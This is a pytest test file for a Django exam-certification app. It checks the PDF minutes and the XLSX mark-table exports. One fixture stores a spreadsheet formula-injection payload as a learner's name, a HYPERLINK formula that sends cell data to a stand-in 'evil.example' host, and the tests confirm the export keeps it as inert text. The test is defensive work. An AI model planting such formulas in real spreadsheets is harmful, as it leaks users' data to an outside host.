"""The commission's documents, parsed back: the procès-verbal (marked "projet" before the
validation), the class table as PDF and as XLSX — marks stay numbers, a learner's name that
a spreadsheet would evaluate stays text."""
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cpro_platform.certification import commission as services
from cpro_platform.certification.models import StatutCandidat
from tests.bilans_documents.factories import texte_pdf

from . import factories as cf

pytestmark = pytest.mark.django_db
FORMULE = '=HYPERLINK("https://evil.example/?x="&A1,"clic")'


@pytest.fixture
def s():
    s = cf.session(noms=["ALPHA", FORMULE, "CHARLIE"])
    alpha, piege, charlie = s.apprenants
    cf.grille(s, alpha, "E31", 14)
    cf.grille(s, alpha, "E32", 10)
    cf.grille(s, alpha, "E33", "8.5", signee=False)
    cf.candidature(s, piege, "E31", StatutCandidat.ABSENT)
    cf.candidature(s, piege, "E32", StatutCandidat.BENEFICE, note_conservee=Decimal("13"),
                   session_origine=2025)
    cf.candidature(s, charlie, "E33", StatutCandidat.DISPENSE)
    c = cf.commission(s, observations="Séance sans incident.")
    services.ajuster(c, s.grilles[alpha.pk, "E31"], "15,5", "Contrôle final relu", s.ddfpt)
    return s


def _get(client, nom, *args):
    reponse = client.get(reverse(f"certification:{nom}", args=args))
    assert reponse.status_code == 200
    return reponse


def test_the_draft_minutes_say_projet_and_print_everything(s, client):
    client.force_login(s.enseignant)
    c = s.session.commission
    reponse = _get(client, "commission_proces_verbal", c.pk)
    assert reponse["Content-Type"] == "application/pdf"
    assert "proces-verbal-t-ccf" in reponse["Content-Disposition"]
    texte = " ".join(texte_pdf(reponse.content).split())
    for attendu in ["Projet de procès-verbal", "PROJET", s.session.classe.etablissement.nom,
                    s.session.classe.etablissement.uai, s.session.classe.nom,
                    s.ddfpt.last_name, s.enseignant.last_name, s.inspecteur.last_name,
                    "observateur — ne signe pas", "Salle du conseil", "Séance sans incident.",
                    "Contrôle final relu", "15,50", "14,00", "Non validée à la date d’édition",
                    "Le DDFPT (président de la commission)", "Les enseignants évaluateurs",
                    "ABS", "bénéfice 2025", "Dispensé", "manquante", "Provisoire"]:
        assert attendu in texte, attendu


def test_the_validated_minutes_are_no_longer_a_draft(s, client):
    cf.tout_signer(s)
    c = services.valider(s.session.commission, s.ddfpt)
    client.force_login(s.inspecteur)  # read-only, but reads the minutes
    texte = " ".join(texte_pdf(_get(client, "commission_proces_verbal", c.pk).content).split())
    assert "Procès-verbal" in texte and "PROJET" not in texte and "Projet" not in texte
    assert f"Validée le {timezone.localtime(c.validee_le):%d/%m/%Y}" in texte


def test_the_table_pdf(s, client):
    client.force_login(s.ddfpt)
    texte = " ".join(texte_pdf(_get(client, "commission_tableau_pdf", s.session.pk).content)
                     .split())
    for attendu in ["Notes de CCF de la classe", "E31", "E32", "E33", "coef. 4", "ALPHA",
                    "15,50", "ajustée", "proposée, non signée", "PROJET",
                    "Sans note retenue : E33"]:
        assert attendu in texte, attendu


def test_the_table_xlsx_keeps_marks_as_numbers_and_names_as_inert_text(s, client):
    client.force_login(s.enseignant)
    reponse = _get(client, "commission_tableau_xlsx", s.session.pk)
    assert reponse["Content-Disposition"].startswith("attachment;")
    classeur = load_workbook(io.BytesIO(reponse.content))
    feuille = classeur["Tableau"]
    lignes = [[c.value for c in ligne] for ligne in feuille.iter_rows()]
    rang = next(i for i, ligne in enumerate(lignes) if ligne[0] == "Nom")
    entetes = lignes[rang]
    assert entetes[:7] == ["Nom", "Prénom", "INE", "E31 (coef. 4)", "E32 (coef. 3)",
                           "E33 (coef. 2)", "Moyenne pondérée"]
    par_nom = {ligne[0]: ligne for ligne in lignes[rang + 1:] if ligne[0]}
    alpha = par_nom["ALPHA"]
    assert alpha[3] == 15.5 and alpha[4] == 10 and alpha[5] == "proposée 8,50 (non signée)"
    assert alpha[6] == pytest.approx((15.5 * 4 + 10 * 3) / 7, abs=0.01)
    assert alpha[9] == "E33"
    rang_alpha = next(c.row for c in feuille["A"] if c.value == "ALPHA")
    assert feuille.cell(rang_alpha, 4).comment.text.startswith("Ajustée par la commission")
    rang_piege = next(c.row for c in feuille["A"] if c.value == "'" + FORMULE)
    assert feuille.cell(rang_piege, 5).comment.text == "Bénéfice de la session 2025"
    # The formula-like name: inert text, the cell typed as a string.
    piege = par_nom["'" + FORMULE]
    cellule = next(c for c in feuille["A"] if c.value == "'" + FORMULE)
    assert cellule.data_type == "s"
    assert piege[3] == "ABS" and piege[4] == 13 and piege[5] == "manquante"
    assert par_nom["CHARLIE"][5] == "Dispensé"
    assert not any(isinstance(v, str) and v.startswith("=") for ligne in lignes for v in ligne)
    historique = [[c.value for c in ligne] for ligne in classeur["Ajustements"].iter_rows()]
    assert historique[1][:5] == ["Prénom ALPHA", "E31", 14, 15.5, "Contrôle final relu"]
